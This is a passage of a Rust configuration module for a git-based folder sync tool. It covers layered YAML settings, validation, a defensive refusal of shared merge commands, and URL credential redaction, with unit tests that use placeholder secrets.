//! Configuration: the app config (YAML, in the config dir) that lists folders, the per-folder
//! `.supersonic-sync.conf` (the seed's keys: `git`, `sync`, `exclude_patterns`, `metrics`,
//! `webhooks`), and environment overrides.
//!
//! Layers, weakest first: built-in defaults, the app config's `defaults:`, the folder's own
//! `.supersonic-sync.conf` (it travels with the folder, so every device shares it), the folder's
//! entry in the app config (device-local), then environment variables. Each file is validated on
//! its own first, so an error names the file, the line and the key; only then are the layers
//! merged. Invalid config is always an error: the engine never silently falls back.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use serde_yaml::Value;

pub use crate::error::ConfigError;
pub use crate::paths::{APP_CONFIG_FILE, FOLDER_CONFIG_FILE};

/// Sync mode of a folder (seed 004).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, Default)]
#[serde(rename_all = "kebab-case")]
pub enum Mode {
    /// Local changes are pushed and remote changes are pulled.
    #[default]
    TwoWay,
    /// Local changes are pushed; remote changes are never applied (backup, "seed").
    PushOnly,
    /// Remote changes are applied; local changes are never committed (mirror).
    PullOnly,
}

impl std::str::FromStr for Mode {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        match s {
            "two-way" => Ok(Mode::TwoWay),
            "push-only" => Ok(Mode::PushOnly),
            "pull-only" => Ok(Mode::PullOnly),
            other => {
                Err(format!("unknown mode `{other}` (expected two-way, push-only or pull-only)"))
            }
        }
    }
}

impl std::fmt::Display for Mode {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            Mode::TwoWay => "two-way",
            Mode::PushOnly => "push-only",
            Mode::PullOnly => "pull-only",
        })
    }
}

/// The seed's `git:` section: identity used for sync commits.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, Default)]
#[serde(default, deny_unknown_fields)]
pub struct GitSettings {
    /// Author name of sync commits (default: the repo's `user.name`, else the device name).
    pub user: Option<String>,
    /// Author email of sync commits (default: the repo's `user.email`).
    pub email: Option<String>,
    /// Requires signed commits: true signs every commit of the engine as if the git config said
    /// `commit.gpgsign = true` (key, format and program still come from the git config); false
    /// leaves it to the git config. Only ever turns signing on, so a `.supersonic-sync.conf`
    /// written by another device cannot turn this device's signing off.
    pub sign: bool,
}

/// The seed's `sync:` section plus the engine's timing knobs.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct SyncSettings {
    /// Seconds between remote polls (fetch) while idle (seed `interval_sec`).
    pub interval_sec: u64,
    /// Remote operations allowed per sliding hour (seed `max_per_hour`).
    pub max_per_hour: u32,
    /// Whether consecutive failures back off exponentially (seed `backoff_enabled`).
    pub backoff_enabled: bool,
    /// First backoff delay in seconds (doubles per consecutive failure).
    pub backoff_initial_sec: u64,
    /// Cap of the backoff delay in seconds.
    pub backoff_max_sec: u64,
    /// Quiet period after the last change before a batch is committed, in milliseconds.
    pub debounce_ms: u64,
    /// Longest a change may wait while the folder keeps changing, in milliseconds.
    pub max_latency_ms: u64,
    /// Paths tracked per batch before the batch turns into one full rescan.
    pub batch_cap: usize,
    /// Seconds between full rescans that catch what the watcher missed.
    pub rescan_interval_sec: u64,
    /// Deadline of one network git command (fetch, push), in seconds.
    pub network_timeout_sec: u64,
    /// Files larger than this many MB are not synced (a warning names them).
    pub max_file_size_mb: u64,
    /// A batch deleting more than this share of tracked files stops the folder (0..=1).
    pub mass_delete_ratio: f64,
    /// ...but only when it deletes at least this many files.
    pub mass_delete_min_files: usize,
    /// The folder stops when free disk space falls below this many MB.
    pub min_free_disk_mb: u64,
    /// Hold back files that look like secrets (private keys, tokens) until released.
    pub secret_guard: bool,
    /// Hours between scheduled `git gc` runs (when the folder is quiet); 0 turns every
    /// automatic gc off, including the `git gc --auto` after syncs. Fractions are allowed.
    pub gc_interval_hours: f64,
}

impl Default for SyncSettings {
    fn default() -> Self {
        SyncSettings {
            interval_sec: 300,
            max_per_hour: 60,
            backoff_enabled: true,
            backoff_initial_sec: 60,
            backoff_max_sec: 3600,
            debounce_ms: 500,
            max_latency_ms: 10_000,
            batch_cap: 5_000,
            rescan_interval_sec: 3600,
            network_timeout_sec: 120,
            max_file_size_mb: 100,
            mass_delete_ratio: 0.5,
            mass_delete_min_files: 50,
            min_free_disk_mb: 64,
            secret_guard: true,
            gc_interval_hours: 24.0,
        }
    }
}

/// The seed's `metrics:` section.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct MetricsSettings {
    /// History rows kept (oldest pruned first).
    pub history_max_entries: usize,
    /// History rows older than this many days are pruned.
    pub history_max_age_days: u32,
    /// A seed-style JSONL history file to import once (optional).
    pub history_file: Option<String>,
}

impl Default for MetricsSettings {
    fn default() -> Self {
        MetricsSettings {
            history_max_entries: 10_000,
            history_max_age_days: 90,
            history_file: None,
        }
    }
}

/// The seed's `webhooks:` section.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct WebhookSettings {
    /// Whether webhooks are sent.
    pub enabled: bool,
    /// Endpoint URLs (secrets: redacted wherever shown).
    pub urls: Vec<String>,
    /// Events sent, from `webhooks::EVENT_TYPES` (empty: `webhooks::DEFAULT_EVENTS`, every event
    /// but `sync_start` and `warning`).
    pub events: Vec<String>,
    /// Per-attempt timeout in seconds.
    pub timeout_sec: u64,
    /// Retries per delivery after the first attempt (exponential backoff, `Retry-After` honoured).
    pub retries: u32,
    /// HMAC-SHA256 secret for generic webhooks (secret: redacted wherever shown).
    pub secret: Option<String>,
    /// Body format: `auto` (chosen from each URL), `slack`, `discord` or `generic`.
    pub format: Format,
}

impl Default for WebhookSettings {
    fn default() -> Self {
        WebhookSettings {
            enabled: false,
            urls: Vec::new(),
            events: Vec::new(),
            timeout_sec: 10,
            retries: 3,
            secret: None,
            format: Format::Auto,
        }
    }
}

/// The shape of the body a webhook endpoint receives (`webhooks.format`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, Default)]
#[serde(rename_all = "lowercase")]
pub enum Format {
    /// Chosen from the URL (see `webhooks::format_for`).
    #[default]
    Auto,
    /// Slack incoming webhook: `text` plus `blocks`.
    Slack,
    /// Discord webhook: `content` plus one embed.
    Discord,
    /// `{event, folder, device, time, data}`, signed when a secret is set.
    Generic,
}

impl std::fmt::Display for Format {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            Format::Auto => "auto",
            Format::Slack => "slack",
            Format::Discord => "discord",
            Format::Generic => "generic",
        })
    }
}

/// Default failures in a row before a streak is worth interrupting the user: one failed attempt
/// is usually a blip (a laptop waking up), three in a row mean the remote is really unreachable.
pub const DEFAULT_FAILURE_THRESHOLD: u32 = 3;
/// Default minimum gap between two notifications of one kind for one folder: long enough that a
/// remote flapping every minute notifies a few times an hour at most.
pub const DEFAULT_MIN_INTERVAL_SEC: u64 = 600;

/// The `notifications:` settings of a folder.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct NotificationSettings {
    /// Master switch.
    pub enabled: bool,
    /// Notify when syncing keeps failing.
    pub failures: bool,
    /// Notify when the folder stopped and needs the user (auth, host key, mass delete...).
    pub needs_attention: bool,
    /// Notify about conflicts that wait for a decision.
    pub conflicts: bool,
    /// Notify when syncing works again after a notified failure.
    pub recovery: bool,
    /// Notify freshness alerts (unpushed work, unreachable remote, silent device).
    pub stale: bool,
    /// Failures in a row before the streak is notified.
    pub failure_threshold: u32,
    /// Minimum seconds between two notifications of one kind for one folder.
    pub min_interval_sec: u64,
}

impl Default for NotificationSettings {
    fn default() -> Self {
        NotificationSettings {
            enabled: true,
            failures: true,
            needs_attention: true,
            conflicts: true,
            recovery: true,
            stale: true,
            failure_threshold: DEFAULT_FAILURE_THRESHOLD,
            min_interval_sec: DEFAULT_MIN_INTERVAL_SEC,
        }
    }
}

/// How a conflicting file is resolved (DESIGN §3.3).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, Default)]
#[serde(rename_all = "lowercase")]
pub enum Strategy {
    /// Keep both versions (the older one as a conflict copy), notify, and let the user pick.
    #[default]
    Ask,
    /// The newer change keeps the path; the older stays recoverable from history.
    Newest,
    /// This device's version keeps the path.
    Local,
    /// The other device's version keeps the path.
    Remote,
    /// Line union for text (duplicates dropped), structural merge for JSON; falls back to `ask`
    /// for binaries, unparsable JSON or truly colliding keys.
    Union,
    /// Git-style conflict markers in the file, flagged for review.
    Markers,
    /// The rule's `command` merges, called like a git merge driver; falls back to `ask` when it
    /// fails, times out or cannot start.
    Command,
}

impl std::fmt::Display for Strategy {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            Strategy::Ask => "ask",
            Strategy::Newest => "newest",
            Strategy::Local => "local",
            Strategy::Remote => "remote",
            Strategy::Union => "union",
            Strategy::Markers => "markers",
            Strategy::Command => "command",
        })
    }
}

/// One conflict rule: paths matching `pattern` (gitignore syntax) use `strategy`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ConflictRule {
    /// Glob in gitignore syntax (`*.json` matches at any depth, `dir/x*` is anchored).
    pub pattern: String,
    /// The strategy for matching paths.
    pub strategy: Strategy,
    /// For `strategy: command`: the merge driver's argv, run directly (no shell), with `%O`
    /// (base), `%A` (local; the driver writes the result there), `%B` (remote) replaced by
    /// temporary files, `%P` by the path in the folder and `%%` by `%`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub command: Option<Vec<String>>,
}

/// The `conflicts:` section: ordered rules (first match wins) and a default.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct ConflictSettings {
    /// Strategy for paths no rule matches.
    pub default: Strategy,
    /// Ordered rules; the first matching rule decides.
    pub rules: Vec<ConflictRule>,
    /// Conflict copies kept per file; older ones are pruned (their content stays in history).
    pub max_copies: usize,
    /// Deadline of one merge `command`, in seconds; past it the command is killed and the
    /// conflict falls back to `ask`.
    pub command_timeout_sec: u64,
}

impl Default for ConflictSettings {
    fn default() -> Self {
        ConflictSettings {
            default: Strategy::Ask,
            rules: Vec::new(),
            max_copies: 5,
            command_timeout_sec: DEFAULT_COMMAND_TIMEOUT_SEC,
        }
    }
}

/// Default deadline of a merge command: a merge of one file takes well under a second, and the
/// folder worker waits for it, so a command still running after 10 s is taken as hung.
pub const DEFAULT_COMMAND_TIMEOUT_SEC: u64 = 10;

impl ConflictSettings {
    /// Checks what the types cannot: `strategy: command` comes with a command (and a command
    /// only with that strategy), the default is not `command`, the timeout is positive. An
    /// error names `file` and the key under `prefix` (`folders[0].conflicts.rules[0].command`;
    /// an empty prefix for a folder's own settings).
    pub fn check(&self, file: &Path, prefix: &str) -> Result<(), ConfigError> {
        let key = |k: &str| match prefix {
            "" => format!("conflicts.{k}"),
            p => format!("{p}.conflicts.{k}"),
        };
        if self.default == Strategy::Command {
            return Err(ConfigError::new(
                file,
                Some(&key("default")),
                "`command` needs a command, which only a rule can carry; use it in a rule",
            ));
        }
        if self.command_timeout_sec == 0 {
            return Err(ConfigError::new(
                file,
                Some(&key("command_timeout_sec")),
                "must be greater than 0",
            ));
        }
        for (i, rule) in self.rules.iter().enumerate() {
            let key = key(&format!("rules[{i}].command"));
            match (&rule.command, rule.strategy) {
                (None, Strategy::Command) => {
                    return Err(ConfigError::new(
                        file,
                        Some(&key),
                        "missing: `strategy: command` needs the command to run, e.g. \
                         command: [\"my-merge\", \"%O\", \"%A\", \"%B\", \"%P\"]",
                    ))
                }
                (Some(argv), Strategy::Command)
                    if argv.first().is_none_or(|p| p.trim().is_empty()) =>
                {
                    return Err(ConfigError::new(
                        file,
                        Some(&key),
                        "must start with the program to run, e.g. \
                         [\"my-merge\", \"%O\", \"%A\", \"%B\", \"%P\"]",
                    ))
                }
                (Some(_), other) if other != Strategy::Command => {
                    return Err(ConfigError::new(
                        file,
                        Some(&key),
                        format!(
                            "is only used with `strategy: command` (this rule's strategy is \
                             `{other}`)"
                        ),
                    ))
                }
                _ => {}
            }
        }
        Ok(())
    }
}

/// Settings that a folder can carry in `.supersonic-sync.conf` and that the app config can set
/// for all folders (`defaults:`) or for one folder (inline in its entry).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, Default)]
#[serde(default, deny_unknown_fields)]
pub struct FolderSettings {
    /// Commit identity.
    pub git: GitSettings,
    /// Timing, throttle and safety knobs.
    pub sync: SyncSettings,
    /// Extra ignore patterns (gitignore syntax), added after `.syncignore`'s built-ins.
    pub exclude_patterns: Vec<String>,
    /// History retention.
    pub metrics: MetricsSettings,
    /// Webhook delivery.
    pub webhooks: WebhookSettings,
    /// Conflict policies.
    pub conflicts: ConflictSettings,
    /// Native notifications.
    pub notifications: NotificationSettings,
    /// Freshness alerts.
    pub freshness: FreshnessSettings,
}

/// The `freshness:` alerts of a folder: when work waits too long, say so (notification,
/// `stale` webhook, Status). 0 turns an alert off.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct FreshnessSettings {
    /// Alert when a local commit has waited this many minutes unpushed.
    pub unpushed_max_min: u64,
    /// Alert when the remote has not been reached for this many minutes.
    pub remote_unreached_max_min: u64,
    /// Alert when another device has not synced for this many hours.
    pub device_silent_max_hours: u64,
}

impl Default for FreshnessSettings {
    fn default() -> Self {
        FreshnessSettings {
            unpushed_max_min: 60,
            remote_unreached_max_min: 240,
            device_silent_max_hours: 0,
        }
    }
}

/// One folder entry of the app config.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FolderEntry {
    /// Absolute path of the synced folder.
    pub path: PathBuf,
    /// Remote URL (any URL the system git understands, or a path).
    pub remote: String,
    /// Branch synced.
    #[serde(default = "default_branch")]
    pub branch: String,
    /// Sync mode.
    #[serde(default)]
    pub mode: Mode,
    /// Whether the folder is paused.
    #[serde(default)]
    pub paused: bool,
    /// Device-local overrides (same keys as `.supersonic-sync.conf`).
    #[serde(flatten)]
    pub overrides: BTreeMap<String, Value>,
}

fn default_branch() -> String {
    "main".to_string()
}

/// Device identity settings of the app config.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, Default)]
#[serde(default, deny_unknown_fields)]
pub struct DeviceSettings {
    /// Human-readable device name (default: the host name).
    pub name: Option<String>,
}

/// The app config file (`config.yaml` in the config dir).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, Default)]
#[serde(default, deny_unknown_fields)]
pub struct AppConfig {
    /// This device.
    pub device: DeviceSettings,
    /// Settings applied to every folder unless a folder says otherwise.
    pub defaults: Value,
    /// The synced folders.
    pub folders: Vec<FolderEntry>,
    /// The local HTTP API (crate `supersonic-http`).
    #[serde(skip_serializing_if = "HttpSettings::is_default")]
    pub http: HttpSettings,
}

/// Port of the local HTTP API unless configured: next to Syncthing's GUI (8384), not on it, since
/// the people who sync folders often run both.
pub const DEFAULT_HTTP_PORT: u16 = 8385;

/// The app config's `http:` section: the local HTTP API that serves the web UI.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct HttpSettings {
    /// Whether `supersonic run` serves the API too (`supersonic serve` always does).
    pub enabled: bool,
    /// Port on 127.0.0.1; 0 lets the system pick a free one.
    pub port: u16,
}

impl Default for HttpSettings {
    fn default() -> Self {
        HttpSettings { enabled: false, port: DEFAULT_HTTP_PORT }
    }
}

impl HttpSettings {
    fn is_default(&self) -> bool {
        *self == HttpSettings::default()
    }
}

/// A folder's fully resolved configuration.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct FolderConfig {
    /// Absolute path of the folder.
    pub path: PathBuf,
    /// Remote URL.
    pub remote: String,
    /// Branch synced.
    pub branch: String,
    /// Sync mode.
    pub mode: Mode,
    /// Whether the folder is paused.
    pub paused: bool,
    /// The merged settings.
    #[serde(flatten)]
    pub settings: FolderSettings,
}

/// Loads and validates the app config at `file`; a missing file is an empty config.
pub fn load_app_config(file: &Path) -> Result<AppConfig, ConfigError> {
    let text = match std::fs::read_to_string(file) {
        Ok(text) => text,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(AppConfig::default()),
        Err(e) => return Err(ConfigError::new(file, None, format!("cannot read: {e}"))),
    };
    let config: AppConfig = parse_yaml(file, &text)?;
    if (1..1024).contains(&config.http.port) {
        return Err(ConfigError::new(
            file,
            Some("http.port"),
            format!(
                "{} is a privileged port; use 1024..65535, or 0 to let the system pick",
                config.http.port
            ),
        ));
    }
    if !config.defaults.is_null() {
        let defaults: FolderSettings = from_value(file, "defaults", config.defaults.clone())?;
        defaults.conflicts.check(file, "defaults")?;
    }
    for (i, folder) in config.folders.iter().enumerate() {
        let key = format!("folders[{i}]");
        if !folder.path.is_absolute() {
            return Err(ConfigError::new(
                file,
                Some(&format!("{key}.path")),
                format!("folder path `{}` must be absolute", folder.path.display()),
            ));
        }
        if folder.remote.trim().is_empty() {
            return Err(ConfigError::new(file, Some(&format!("{key}.remote")), "empty remote"));
        }
        let overrides = Value::Mapping(
            folder.overrides.iter().map(|(k, v)| (Value::String(k.clone()), v.clone())).collect(),
        );
        let settings: FolderSettings = from_value(file, &key, overrides)?;
        settings.conflicts.check(file, &key)?;
    }
    Ok(config)
}

/// Writes the app config atomically (temp file + rename), creating the config dir.
pub fn save_app_config(file: &Path, config: &AppConfig) -> crate::Result<()> {
    let text = serde_yaml::to_string(config)
        .map_err(|e| ConfigError::new(file, None, format!("cannot serialise: {e}")))?;
    let dir = file.parent().unwrap_or(Path::new("."));
    std::fs::create_dir_all(dir).map_err(|e| crate::Error::io(dir, e))?;
    crate::paths::write_atomic(file, text.as_bytes())
}

/// Loads a folder's `.supersonic-sync.conf` as a YAML value (null if absent), validated.
pub fn load_folder_file(folder: &Path) -> Result<Value, ConfigError> {
    let file = folder.join(FOLDER_CONFIG_FILE);
    if crate::paths::links_outside(folder, &file) {
        // Never read (nor quote in an error) a file elsewhere on this machine.
        return Err(ConfigError::new(
            &file,
            None,
            "is a symbolic link to a file outside the folder; it is not read. Replace it \
             with a regular file"
                .to_string(),
        ));
    }
    let text = match std::fs::read_to_string(&file) {
        Ok(text) => text,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Value::Null),
        Err(e) => return Err(ConfigError::new(&file, None, format!("cannot read: {e}"))),
    };
    let settings: FolderSettings = parse_yaml(&file, &text)?;
    refuse_shared_commands(&file, &settings.conflicts)?;
    let value: Value =
        serde_yaml::from_str(&text).map_err(|e| ConfigError::new(&file, None, e.to_string()))?;
    Ok(value)
}

/// Refuses merge commands in a folder's own config file. The file travels with the folder, so
/// anyone who can push to the remote could otherwise make every device run a program of their
/// choosing (git draws the same line: `.gitattributes` names a merge driver, only the local
/// config defines its command).
fn refuse_shared_commands(file: &Path, conflicts: &ConflictSettings) -> Result<(), ConfigError> {
    let shared =
        conflicts.rules.iter().position(|r| r.strategy == Strategy::Command || r.command.is_some());
    match shared {
        None => conflicts.check(file, ""),
        Some(i) => Err(ConfigError::new(
            file,
            Some(&format!("conflicts.rules[{i}].command")),
            format!(
                "merge commands are not read from {FOLDER_CONFIG_FILE}, which every device \
                 syncing the folder can change; put this rule in this device's {APP_CONFIG_FILE} \
                 (the folder's entry, or `defaults:`)"
            ),
        )),
    }
}

/// Resolves a folder's effective configuration from every layer and the environment.
pub fn resolve_folder(
    app_file: &Path,
    app: &AppConfig,
    entry: &FolderEntry,
    env: &BTreeMap<String, String>,
) -> Result<FolderConfig, ConfigError> {
    let folder_file = load_folder_file(&entry.path)?;
    let overrides = Value::Mapping(
        entry.overrides.iter().map(|(k, v)| (Value::String(k.clone()), v.clone())).collect(),
    );
    let mut merged = Value::Mapping(Default::default());
    for layer in [&app.defaults, &folder_file, &overrides] {
        merge_value(&mut merged, layer);
    }
    let mut settings: FolderSettings = from_value(app_file, "", merged)?;
    apply_env(&mut settings, env)?;
    let config = FolderConfig {
        path: entry.path.clone(),
        remote: entry.remote.clone(),
        branch: entry.branch.clone(),
        mode: entry.mode,
        paused: entry.paused,
        settings,
    };
    validate(app_file, &config)?;
    Ok(config)
}

/// Environment variables that override settings, with the key each one sets.
pub const ENV_OVERRIDES: &[(&str, &str)] = &[
    ("SUPERSONIC_INTERVAL_SEC", "sync.interval_sec"),
    ("SUPERSONIC_MAX_PER_HOUR", "sync.max_per_hour"),
    ("SUPERSONIC_DEBOUNCE_MS", "sync.debounce_ms"),
    ("SUPERSONIC_BACKOFF_INITIAL_SEC", "sync.backoff_initial_sec"),
    ("SUPERSONIC_BACKOFF_MAX_SEC", "sync.backoff_max_sec"),
    ("SUPERSONIC_NETWORK_TIMEOUT_SEC", "sync.network_timeout_sec"),
    ("SUPERSONIC_MAX_FILE_SIZE_MB", "sync.max_file_size_mb"),
    ("SUPERSONIC_RESCAN_INTERVAL_SEC", "sync.rescan_interval_sec"),
];

fn apply_env(
    settings: &mut FolderSettings,
    env: &BTreeMap<String, String>,
) -> Result<(), ConfigError> {
    for (var, key) in ENV_OVERRIDES {
        let Some(raw) = env.get(*var) else { continue };
        let bad = || ConfigError {
            file: PathBuf::from("environment"),
            line: None,
            column: None,
            key: Some((*var).to_string()),
            message: format!("`{raw}` is not a non-negative integer (sets {key})"),
        };
        let n: u64 = raw.trim().parse().map_err(|_| bad())?;
        let s = &mut settings.sync;
        match *var {
            "SUPERSONIC_INTERVAL_SEC" => s.interval_sec = n,
            "SUPERSONIC_MAX_PER_HOUR" => s.max_per_hour = u32::try_from(n).map_err(|_| bad())?,
            "SUPERSONIC_DEBOUNCE_MS" => s.debounce_ms = n,
            "SUPERSONIC_BACKOFF_INITIAL_SEC" => s.backoff_initial_sec = n,
            "SUPERSONIC_BACKOFF_MAX_SEC" => s.backoff_max_sec = n,
            "SUPERSONIC_NETWORK_TIMEOUT_SEC" => s.network_timeout_sec = n,
            "SUPERSONIC_MAX_FILE_SIZE_MB" => s.max_file_size_mb = n,
            "SUPERSONIC_RESCAN_INTERVAL_SEC" => s.rescan_interval_sec = n,
            _ => unreachable!("every override is matched"),
        }
    }
    Ok(())
}

fn validate(file: &Path, config: &FolderConfig) -> Result<(), ConfigError> {
    let s = &config.settings.sync;
    let positive = [
        ("sync.interval_sec", s.interval_sec),
        ("sync.max_per_hour", u64::from(s.max_per_hour)),
        ("sync.backoff_initial_sec", s.backoff_initial_sec),
        ("sync.backoff_max_sec", s.backoff_max_sec),
        ("sync.network_timeout_sec", s.network_timeout_sec),
        ("sync.rescan_interval_sec", s.rescan_interval_sec),
        ("sync.batch_cap", s.batch_cap as u64),
    ];
    for (key, value) in positive {
        if value == 0 {
            return Err(ConfigError::new(file, Some(key), "must be greater than 0"));
        }
    }
    if !(0.0..=1.0).contains(&s.mass_delete_ratio) {
        return Err(ConfigError::new(file, Some("sync.mass_delete_ratio"), "must be within 0..1"));
    }
    if !s.gc_interval_hours.is_finite() || s.gc_interval_hours < 0.0 {
        return Err(ConfigError::new(
            file,
            Some("sync.gc_interval_hours"),
            "must be 0 (off) or a positive number of hours",
        ));
    }
    if s.backoff_max_sec < s.backoff_initial_sec {
        return Err(ConfigError::new(
            file,
            Some("sync.backoff_max_sec"),
            "must not be smaller than sync.backoff_initial_sec",
        ));
    }
    config.settings.conflicts.check(file, "")?;
    if config.branch.is_empty() || git2::Branch::name_is_valid(&config.branch) != Ok(true) {
        return Err(ConfigError::new(
            file,
            Some("branch"),
            format!("`{}` is not a valid branch name", config.branch),
        ));
    }
    Ok(())
}

fn parse_yaml<T: serde::de::DeserializeOwned>(file: &Path, text: &str) -> Result<T, ConfigError> {
    if text.trim().is_empty() {
        return from_value(file, "", Value::Null);
    }
    let de = serde_yaml::Deserializer::from_str(text);
    serde_path_to_error::deserialize(de).map_err(|err| {
        let key = err.path().to_string();
        let inner = err.into_inner();
        let (line, column) = match inner.location() {
            Some(l) => (Some(l.line()), Some(l.column())),
            None => (None, None),
        };
        let message = strip_key(&strip_location(&inner.to_string()), &key);
        ConfigError { file: file.to_path_buf(), line, column, key: Some(key), message }
    })
}

fn from_value<T: serde::de::DeserializeOwned>(
    file: &Path,
    prefix: &str,
    value: Value,
) -> Result<T, ConfigError> {
    let value = if value.is_null() { Value::Mapping(Default::default()) } else { value };
    serde_path_to_error::deserialize(value).map_err(|err| {
        let path = err.path().to_string();
        let key = match (prefix, path.as_str()) {
            ("", p) => p.to_string(),
            (pre, "." | "") => pre.to_string(),
            (pre, p) => format!("{pre}.{p}"),
        };
        let message = strip_key(&strip_location(&err.into_inner().to_string()), &path);
        ConfigError { file: file.to_path_buf(), line: None, column: None, key: Some(key), message }
    })
}

/// Removes serde_yaml's leading "key: " (the key is reported separately).
fn strip_key(message: &str, key: &str) -> String {
    message.strip_prefix(&format!("{key}: ")).unwrap_or(message).to_string()
}

/// Removes serde_yaml's trailing " at line X column Y" (the location is reported separately).
fn strip_location(message: &str) -> String {
    match message.find(" at line ") {
        Some(i) => message[..i].to_string(),
        None => message.to_string(),
    }
}

/// Deep-merges `layer` into `base`: mappings merge key by key, anything else replaces.
fn merge_value(base: &mut Value, layer: &Value) {
    match (base, layer) {
        (_, Value::Null) => {}
        (Value::Mapping(base), Value::Mapping(layer)) => {
            for (k, v) in layer {
                match base.get_mut(k) {
                    Some(existing) => merge_value(existing, v),
                    None => {
                        base.insert(k.clone(), v.clone());
                    }
                }
            }
        }
        (base, layer) => *base = layer.clone(),
    }
}

/// Returns `url` with any password or token replaced by `***` (for logs, errors and output).
pub fn redact_url(url: &str) -> String {
    // scheme://user:secret@host/...  → scheme://user:***@host/...
    if let Some(scheme_end) = url.find("://") {
        let rest = &url[scheme_end + 3..];
        let authority_end = rest.find('/').unwrap_or(rest.len());
        let authority = &rest[..authority_end];
        if let Some(at) = authority.rfind('@') {
            let userinfo = &authority[..at];
            let redacted = match userinfo.find(':') {
                Some(colon) => format!("{}:***", &userinfo[..colon]),
                // Over HTTP a lone user name is how tokens are passed (`https://TOKEN@host`);
                // over SSH it is an account name such as `git`.
                None if userinfo.len() > 20 || url[..scheme_end].starts_with("http") => {
                    "***".to_string()
                }
                None => userinfo.to_string(),
            };
            return format!("{}://{}@{}", &url[..scheme_end], redacted, &rest[at + 1..]);
        }
    }
    url.to_string()
}

/// Returns a webhook URL with its path (which carries the key for Slack/Discord) hidden.
pub fn redact_webhook_url(url: &str) -> String {
    if let Some(scheme_end) = url.find("://") {
        let rest = &url[scheme_end + 3..];
        let host_end = rest.find('/').unwrap_or(rest.len());
        let host = rest[..host_end].rsplit('@').next().unwrap_or("");
        if host_end < rest.len() {
            return format!("{}://{}/***", &url[..scheme_end], host);
        }
        return format!("{}://{}", &url[..scheme_end], host);
    }
    "***".to_string()
}

impl FolderConfig {
    /// Returns a copy safe to show: credentials in URLs and webhook secrets redacted.
    pub fn redacted(&self) -> FolderConfig {
        let mut out = self.clone();
        out.remote = redact_url(&out.remote);
        let hooks = &mut out.settings.webhooks;
        hooks.urls = hooks.urls.iter().map(|u| redact_webhook_url(u)).collect();
        if hooks.secret.is_some() {
            hooks.secret = Some("***".to_string());
        }
        out
    }

    /// Returns the size limit in bytes.
    pub fn max_file_size(&self) -> u64 {
        self.settings.sync.max_file_size_mb.saturating_mul(1024 * 1024)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn redact_url_hides_password_but_keeps_user_and_host() {
        assert_eq!(
            redact_url("https://bob:s3cret@example.com/r.git"),
            "https://bob:***@example.com/r.git"
        );
        assert_eq!(redact_url("/srv/git/r.git"), "/srv/git/r.git");
        assert_eq!(redact_url("https://s3cr3t@host/r.git"), "https://***@host/r.git");
        assert_eq!(redact_url("ssh://git@host/r.git"), "ssh://git@host/r.git");
        assert_eq!(
            redact_url("https://ghp_0123456789abcdefghijklmn@github.com/x"),
            "https://***@github.com/x"
        );
    }

    #[test]
    fn webhook_urls_lose_their_path() {
        assert_eq!(
            redact_webhook_url("https://hooks.slack.com/services/T/B/XYZ"),
            "https://hooks.slack.com/***"
        );
    }

    #[test]
    fn merge_is_deep_for_mappings() {
        let mut base: Value =
            serde_yaml::from_str("sync: {interval_sec: 5, max_per_hour: 3}").unwrap();
        let layer: Value = serde_yaml::from_str("sync: {interval_sec: 9}").unwrap();
        merge_value(&mut base, &layer);
        let s: FolderSettings = serde_yaml::from_value(base).unwrap();
        assert_eq!(s.sync.interval_sec, 9);
        assert_eq!(s.sync.max_per_hour, 3, "keys absent from the layer keep the base's value");
    }

    #[test]
    fn conflict_commands_are_checked_and_errors_name_the_key() {
        let check = |yaml: &str| {
            let c: ConflictSettings = serde_yaml::from_str(yaml).unwrap();
            c.check(Path::new("f.conf"), "").err().map(|e| (e.key.unwrap(), e.message))
        };
        let ok = "rules: [{pattern: '*.json', strategy: command, command: [m, '%A']}]";
        assert_eq!(check(ok), None);
        let (key, msg) = check("rules: [{pattern: '*.md', strategy: command}]").unwrap();
        assert_eq!(key, "conflicts.rules[0].command");
        assert!(msg.starts_with("missing"), "{msg}");
        let (key, _) = check("rules: [{pattern: x, strategy: command, command: []}]").unwrap();
        assert_eq!(key, "conflicts.rules[0].command");
        let (key, msg) = check(
            "rules: [{pattern: x, strategy: ask}, {pattern: y, strategy: union, command: [m]}]",
        )
        .unwrap();
        assert_eq!(key, "conflicts.rules[1].command");
        assert!(msg.contains("only used with `strategy: command`"), "{msg}");
        assert_eq!(check("default: command").unwrap().0, "conflicts.default");
        assert_eq!(check("command_timeout_sec: 0").unwrap().0, "conflicts.command_timeout_sec");
